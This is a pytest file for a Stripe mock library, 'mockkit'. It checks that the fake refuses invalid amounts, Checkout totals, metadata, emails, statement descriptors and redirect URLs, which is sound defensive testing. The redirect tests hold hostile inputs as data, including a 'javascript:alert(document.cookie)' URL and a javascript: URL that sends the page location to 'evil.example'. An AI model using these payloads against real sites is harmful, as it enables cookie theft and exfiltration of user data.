"""Stripe's own limits, through the real SDK: amounts per currency, Checkout totals, metadata,
emails, statement descriptors and redirect URLs. Each is refused with Stripe's error (the
exception class, `param`, `code`) and leaves nothing behind.
"""

from __future__ import annotations

import pytest
import requests
import stripe

from mockkit.stripe import StripeFake, StripeServer
from tests.stripe.driver import KEY, Driver
from tests.stripe.test_atomic import refused

# ---- amounts ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("currency", "minimum", "stated"),
    [
        ("usd", 50, "$0.50 usd"),
        ("gbp", 30, "£0.30 gbp"),
        ("sek", 300, "3.00 sek"),
        ("huf", 17500, "175.00 huf"),
        ("czk", 1500, "15.00 czk"),
        ("mxn", 1000, "10.00 mxn"),
        ("jpy", 50, "50 jpy"),
    ],
)
def test_each_currency_has_its_own_minimum_charge(
    fake: StripeFake, currency: str, minimum: int, stated: str
) -> None:
    with pytest.raises(stripe.InvalidRequestError) as info:
        stripe.PaymentIntent.create(amount=minimum - 1, currency=currency)
    assert (info.value.code, info.value.param) == ("amount_too_small", "amount")
    assert f"Amount must be at least {stated}" in str(info.value)
    assert not fake.payment_intents
    assert stripe.PaymentIntent.create(amount=minimum, currency=currency).amount == minimum


def test_an_update_below_the_currency_minimum_is_refused_and_changes_nothing(
    sdk: Driver,
) -> None:
    pi = sdk.create("payment_intents", amount=5000, currency="usd")
    error = refused(sdk.fake, lambda: sdk.update("payment_intents", pi.id, currency="huf"))
    assert error.code == "amount_too_small"  # 5000 is 50.00 Ft, under 175.00 Ft
    assert sdk.retrieve("payment_intents", pi.id).currency == "usd"


def test_the_largest_charge_has_eight_digits(fake: StripeFake) -> None:
    assert stripe.PaymentIntent.create(amount=99_999_999, currency="usd").amount == 99_999_999
    with pytest.raises(stripe.InvalidRequestError) as info:
        stripe.PaymentIntent.create(amount=100_000_000, currency="usd")
    assert (info.value.code, info.value.param) == ("amount_too_large", "amount")
    assert "$999,999.99 usd" in str(info.value)


@pytest.mark.parametrize(
    ("unit_amount", "quantity", "code"),
    [(0, 1, "amount_too_small"), (1, 1, "amount_too_small"), (50_000_000, 2, "amount_too_large")],
    ids=["zero", "one-cent", "over-eight-digits"],
)
def test_checkout_refuses_a_total_it_could_not_charge_when_created(
    sdk: Driver, unit_amount: int, quantity: int, code: str
) -> None:
    item = {
        "price_data": {
            "currency": "usd",
            "unit_amount": unit_amount,
            "product_data": {"name": "x"},
        },
        "quantity": quantity,
    }
    error = refused(
        sdk.fake,
        lambda: sdk.create(
            "checkout.sessions",
            mode="payment",
            line_items=[item],
            success_url="https://shop.example/ok",
        ),
    )
    assert isinstance(error, stripe.InvalidRequestError)
    assert (error.code, error.param) == (code, "line_items")
    assert "The Checkout Session's total amount due must" in str(error)


def test_checkout_total_minimum_follows_the_currency(sdk: Driver) -> None:
    item = {
        "price_data": {"currency": "sek", "unit_amount": 150, "product_data": {"name": "Kaka"}},
        "quantity": 1,
    }
    with pytest.raises(stripe.InvalidRequestError) as info:
        sdk.create(
            "checkout.sessions", mode="payment", line_items=[item], success_url="https://s.e/"
        )
    assert "at least 3.00 sek" in str(info.value)
    item["quantity"] = 2  # 3.00 kr: enough
    session = sdk.create(
        "checkout.sessions", mode="payment", line_items=[item], success_url="https://s.e/"
    )
    assert session.amount_total == 300


def test_the_checkout_page_answers_a_refused_payment_with_a_page_not_a_500(
    mockkit_stripe_server: StripeServer,
) -> None:
    client = stripe.StripeClient(KEY, base_addresses={"api": mockkit_stripe_server.url})
    customer = client.v1.customers.create(params={"email": "gone@example.com"})
    session = client.v1.checkout.sessions.create(
        params={
            "mode": "payment",
            "customer": customer.id,
            "success_url": "https://shop.example/ok",
            "line_items": [
                {
                    "price_data": {
                        "currency": "usd",
                        "unit_amount": 900,
                        "product_data": {"name": "Mug"},
                    },
                    "quantity": 1,
                }
            ],
        }
    )
    client.v1.customers.delete(customer.id)  # the customer goes before paying
    fake = mockkit_stripe_server.fake
    before = (len(fake.events), dict(fake.payment_intents))
    page = requests.post(session.url, data={"card": "pm_card_visa"}, timeout=30)
    assert page.status_code == 400
    assert "No such customer" in page.text and "id=pay" in page.text  # the form, to try again
    assert (len(fake.events), dict(fake.payment_intents)) == before
    assert client.v1.checkout.sessions.retrieve(session.id).status == "open"


# ---- metadata -------------------------------------------------------------------------------


def test_metadata_holds_at_most_fifty_keys_however_many_updates(sdk: Driver) -> None:
    first = {f"a{i}": "x" for i in range(30)}
    customer = sdk.create("customers", metadata=first)
    second = {f"b{i}": "y" for i in range(30)}
    error = refused(sdk.fake, lambda: sdk.update("customers", customer.id, metadata=second))
    assert isinstance(error, stripe.InvalidRequestError) and error.param == "metadata"
    assert len(sdk.retrieve("customers", customer.id).metadata.to_dict()) == 30
    # Deleting keys in the same update makes room: 30 - 10 + 25 = 45.
    change: dict[str, str] = {f"a{i}": "" for i in range(10)}
    change.update({f"c{i}": "z" for i in range(25)})
    updated = sdk.update("customers", customer.id, metadata=change)
    assert len(updated.metadata.to_dict()) == 45


def test_an_empty_metadata_key_is_refused_not_renamed(sdk: Driver) -> None:
    # stripe-python sends {"": "v"} as `metadata[]=v`, which once became the key "0".
    error = refused(sdk.fake, lambda: sdk.create("customers", metadata={"": "v"}))
    assert error.param == "metadata"
    assert sdk.create("customers", metadata={"0": "v"}).metadata.to_dict() == {"0": "v"}


def test_metadata_appended_with_brackets_is_refused_on_the_wire(fake: StripeFake) -> None:
    answer = requests.post(
        "https://api.stripe.com/v1/products",
        data="name=Mug&metadata[]=v",
        headers={
            "Authorization": f"Bearer {KEY}",
            "Content-Type": "application/x-www-form-urlencoded",
        },
        timeout=10,
    )
    assert answer.status_code == 400 and answer.json()["error"]["param"] == "metadata"
    assert not fake.products


# ---- emails -----------------------------------------------------------------------------------


@pytest.mark.parametrize("email", ["not-an-email", "a@b", "two words@example.com", "a@@b.com"])
def test_an_invalid_email_is_refused(sdk: Driver, email: str) -> None:
    error = refused(sdk.fake, lambda: sdk.create("customers", email=email))
    assert isinstance(error, stripe.InvalidRequestError)
    assert (error.param, error.code) == ("email", "email_invalid")
    assert f"Invalid email address: {email}" in str(error)


def test_an_invalid_receipt_email_is_refused(sdk: Driver) -> None:
    error = refused(
        sdk.fake,
        lambda: sdk.create("payment_intents", amount=900, currency="usd", receipt_email="nope"),
    )
    assert (error.param, error.code) == ("receipt_email", "email_invalid")
    pi = sdk.create("payment_intents", amount=900, currency="usd", receipt_email="a@b.co")
    assert pi.receipt_email == "a@b.co"


# ---- statement descriptors --------------------------------------------------------------------


@pytest.mark.parametrize(
    "descriptor",
    ["Shop <b>", "Shop >", 'Say "hi"', "O'Brien Shop", "Shop*Deal", "Back\\slash", "1234567", "Ab"],
)
def test_a_statement_descriptor_stripe_would_refuse_is_refused(
    sdk: Driver, descriptor: str
) -> None:
    error = refused(
        sdk.fake,
        lambda: sdk.create(
            "payment_intents", amount=900, currency="usd", statement_descriptor=descriptor
        ),
    )
    assert isinstance(error, stripe.InvalidRequestError)
    assert error.param == "statement_descriptor"


def test_statement_descriptor_limits_on_suffix_and_products(sdk: Driver) -> None:
    too_long = "A" * 23
    assert (
        refused(
            sdk.fake,
            lambda: sdk.create(
                "payment_intents", amount=900, currency="usd", statement_descriptor_suffix=too_long
            ),
        ).param
        == "statement_descriptor_suffix"
    )
    assert (
        refused(
            sdk.fake, lambda: sdk.create("products", name="Mug", statement_descriptor="<Mug>")
        ).param
        == "statement_descriptor"
    )
    pi = sdk.create(
        "payment_intents",
        amount=900,
        currency="usd",
        statement_descriptor="MOCKKIT SHOP",
        statement_descriptor_suffix="O 42",
    )
    assert (pi.statement_descriptor, pi.statement_descriptor_suffix) == ("MOCKKIT SHOP", "O 42")


# ---- redirect URLs ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url", ["javascript:alert(document.cookie)", "data:text/html,x", "/relative", "https://"]
)
def test_a_return_url_that_is_not_http_is_refused(sdk: Driver, url: str) -> None:
    error = refused(
        sdk.fake,
        lambda: sdk.create(
            "payment_intents",
            amount=900,
            currency="usd",
            payment_method="pm_card_threeDSecure2Required",
            confirm=True,
            return_url=url,
        ),
    )
    assert isinstance(error, stripe.InvalidRequestError)
    assert (error.param, error.code) == ("return_url", "url_invalid")
    assert "Invalid URL" in str(error)


def test_the_3ds_page_only_ever_returns_to_an_http_url(
    mockkit_stripe_server: StripeServer,
) -> None:
    client = stripe.StripeClient(KEY, base_addresses={"api": mockkit_stripe_server.url})
    params = {
        "amount": 900,
        "currency": "usd",
        "payment_method": "pm_card_threeDSecure2Required",
        "confirm": True,
        "return_url": "javascript:fetch('//evil.example/?'+location)",
    }
    with pytest.raises(stripe.InvalidRequestError):
        client.v1.payment_intents.create(params=params)
    assert not mockkit_stripe_server.fake.payment_intents
    params["return_url"] = "https://shop.example/done"
    pi = client.v1.payment_intents.create(params=params)
    assert pi.status == "requires_action"
    page = requests.post(
        pi.next_action.redirect_to_url.url,
        data={"action": "complete"},
        allow_redirects=False,
        timeout=30,
    )
    assert page.status_code == 303
    assert page.headers["Location"].startswith("https://shop.example/done?payment_intent=")
